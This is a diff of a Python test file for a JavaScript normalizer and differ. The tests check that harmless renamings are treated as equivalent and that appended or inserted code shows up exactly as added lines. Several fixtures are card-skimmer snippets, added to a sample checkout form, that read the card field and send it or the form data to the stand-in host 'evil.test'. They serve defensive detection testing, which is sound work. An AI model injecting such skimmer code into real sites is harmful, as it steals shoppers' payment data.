@@ -117,12 +117,17 @@ def test_an_appended_line_changes_the_hash_and_shows_as_one_line() -> None:
 
 
 @pytest.mark.parametrize(("a", "b"), [
-    ("var x = 1; f(x);", "var y = 1; f(y);"),  # a renamed top-level binding
+    ("function g() { var x = 1; f(x); }", "function g() { var y = 1; f(y); }"),  # a local
+    ("(function () { var x = 1; f(x); })();", "!function(){var y=1;f(y)}();"),
+    ("for (let i = 0; i < n; i++) g(i);", "for (let j = 0; j < n; j++) g(j);"),  # loop scope
+    # an ES module's top level is its own scope: renamed like a function's
+    ('import a from "m"; const x = a(1); x.go();', 'import b from "m"; const y = b(1); y.go();'),
     ("f(a.b)", "f(a['b'])"),
     ("x = 'it'", 'x = "it"'),
     ("x = 1000", "x = 1e3"),
     ("if (a) { b(); c(); }", "a && (b(), c());"),
-    ("for (var i = 0; i < n; i++) g(i);", "for (var j = 0; j < n; j++) { g(j); }"),
+    ("function h(n) { for (var i = 0; i < n; i++) g(i); }",
+     "function h(m) { for (var j = 0; j < m; j++) { g(j); } }"),
     ("let s = `abc`;", "let s = 'abc';"),
     ("class K { #p = 1; get() { return this.#p; } }",
      "class K { #q = 1; get() { return this.#q; } }"),
@@ -133,6 +138,11 @@ def test_equivalent_forms(a: str, b: str) -> None:
 
 @pytest.mark.parametrize(("a", "b"), [
     ("f(x)", "f(y)"),  # globals keep their names
+    # … and so do a classic script's top-level declarations: globals too (`window.x`), which
+    # other scripts of the page read; minifiers leave them alone
+    ("var x = 1; f(x);", "var y = 1; f(y);"),
+    ("function a() {} a();", "function b() {} b();"),
+    ("for (var i = 0; i < n; i++) g(i);", "for (var j = 0; j < n; j++) g(j);"),
     ("function f(){ return x; }", "function f(x){ return x; }"),  # a global vs a parameter
     ("a.b = 1", "a.c = 1"),  # property names are kept
     ("x = 'a'", "x = 'b'"),
@@ -177,3 +187,82 @@ def test_diff_is_bounded(tmp_path: Path) -> None:
     after = "\n".join(f"b{i}();" for i in range(500))
     diff = code_diff(before, after, limit=50)
     assert len(diff.splitlines()) == 51 and diff.endswith("more diff line(s)")
+
+
+# --- a diff shows the code that was added, and only that -------------------------------------
+
+CHECKOUT = """\
+var config = window.checkoutConfig || {};
+var form = $("#paymentForm");
+function serialize(f) {
+  var out = {};
+  $.each(f.serializeArray(), function (i, field) { out[field.name] = field.value; });
+  return out;
+}
+form.on("submit", function (event) {
+  var data = serialize(form);
+  track("checkout", data.total);
+  $.post(config.endpoint || "/api/order", data);
+});
+"""
+
+
+def changed_lines(before: str, after: str) -> tuple[list[str], list[str]]:
+    """The `+` and the `-` lines (without their sign) of the diff of two scripts."""
+    diff = code_diff(normalize_code(before).code, normalize_code(after).code, limit=10_000)
+    rows = diff.splitlines()
+    return ([ln[1:] for ln in rows if ln.startswith("+") and not ln.startswith("+++")],
+            [ln[1:] for ln in rows if ln.startswith("-") and not ln.startswith("---")])
+
+
+@pytest.mark.parametrize("appended", [
+    # top-level `var`s — one of them named like a global the script already uses (`$`), as
+    # a skimmer that re-declares what it hooks does
+    'var k = document.getElementById("cc");\nvar $ = window.jQuery;\n',
+    # a function declaration overriding a global the script calls
+    'function track(name, value) {\n'
+    '  new Image().src = "https://evil.test/t?" + name + "=" + value;\n}\n',
+    # an IIFE with locals of its own
+    '(function () {\n  var f = $("#paymentForm");\n'
+    '  f.on("submit", function () { $.post("https://evil.test/c", f.serialize()); });\n})();\n',
+    # lexical top-level declarations
+    'let q = document.querySelector("#cc");\nconst w = q.value;\nclass Thief {}\n',
+])
+def test_appended_code_is_exactly_its_own_lines(appended: str) -> None:
+    added, removed = changed_lines(CHECKOUT, CHECKOUT + appended)
+    assert removed == []
+    assert added == normalize_code(appended).code.splitlines()
+
+
+def test_statements_inserted_into_a_function_are_exactly_the_added_lines() -> None:
+    """The inserted `var` ranks before the function's own `data`: only the inserted lines are
+    `+`, though every later use of `data` has another positional name in the current form."""
+    inserted = ('  var card = document.getElementById("cc").value;\n'
+                '  new Image().src = "https://evil.test/c?" + card;\n')
+    edited = CHECKOUT.replace("  var data = serialize(form);\n",
+                              inserted + "  var data = serialize(form);\n")
+    added, removed = changed_lines(CHECKOUT, edited)
+    assert removed == []
+    assert len(added) == 2 and "https://evil.test/c?" in added[1]
+    declared = added[0].split()[1]  # `var <name> = …`
+    assert added[0].strip().startswith(f"var {declared} = document.getElementById")
+    assert added[1].rstrip(";").endswith(f"+ {declared}")
+
+
+@pytest.mark.parametrize(("before", "after", "minus", "plus"), [
+    # another local used: still a change, though the lines are alike but for local names
+    ("function f(a, b) { return a; }", "function f(a, b) { return b; }",
+     ["  return v2_0;"], ["  return v2_1;"]),
+    # an inserted local *and* another local used further down: the latter still shows
+    ("function f() { var a = x(); var b = y(); send(a); }",
+     "function f() { var z = w(); var a = x(); var b = y(); send(b); }",
+     ["  send(v2_0);"], None),
+])
+def test_aligned_names_never_hide_a_change(before: str, after: str, minus: list[str],
+                                           plus: list[str] | None) -> None:
+    added, removed = changed_lines(before, after)
+    assert removed == minus
+    if plus is not None:
+        assert added == plus
+    else:
+        assert len(added) == 2 and added[1] == "  send(v2_1);"  # `b` keeps the name it had
